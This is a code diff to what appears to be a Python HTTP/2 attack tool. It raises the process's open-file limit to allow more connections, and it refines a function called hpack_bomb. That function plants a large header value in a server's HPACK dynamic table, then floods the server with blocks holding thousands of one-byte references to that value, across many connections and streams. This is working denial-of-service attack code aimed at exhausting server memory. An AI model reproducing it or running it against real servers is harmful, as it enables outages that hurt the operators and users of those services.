@@ -356,9 +356,14 @@ def check_target(target):
     return family, host, int(m.group(2)), target
 
 
-def raise_nofile():
+def raise_nofile(want=65536):
+    """This process's descriptor limit, raised to `want` if permitted (root),
+    else to the hard limit."""
     soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
-    if soft < hard:
+    try:
+        if soft < want:
+            resource.setrlimit(resource.RLIMIT_NOFILE, (want, max(want, hard)))
+    except (ValueError, OSError):
         resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
     return resource.getrlimit(resource.RLIMIT_NOFILE)[0]
 
@@ -789,7 +794,6 @@ def hpack_bomb(ctx, st):
     pseudo = stateless_block(request_headers("GetRows", ctx.authority))
     refs = b"\xbe" * (16000 - len(pseudo))  # index 62: the first dynamic entry
     conns = [None] * ctx.conns
-    inserted = {}
     sent = 0
     while ctx.running() and sent < MAX_STREAMS_PER_ATTACK:
         busy = True
@@ -811,10 +815,10 @@ def hpack_bomb(ctx, st):
                 c.flush()
                 continue
             block = pseudo + refs
-            if id(c) not in inserted:
+            if not getattr(c, "bomb_inserted", False):
                 value = b"b" * max(1, table - 32 - len(name))
                 block = pseudo + literal_field(name, value, indexing=True) + refs
-                inserted[id(c)] = len(value)
+                c.bomb_inserted = True
                 note(st, f"inserted a {len(value)}-byte value; "
                          f"{len(refs)} references per block")
             sid = c.next_sid
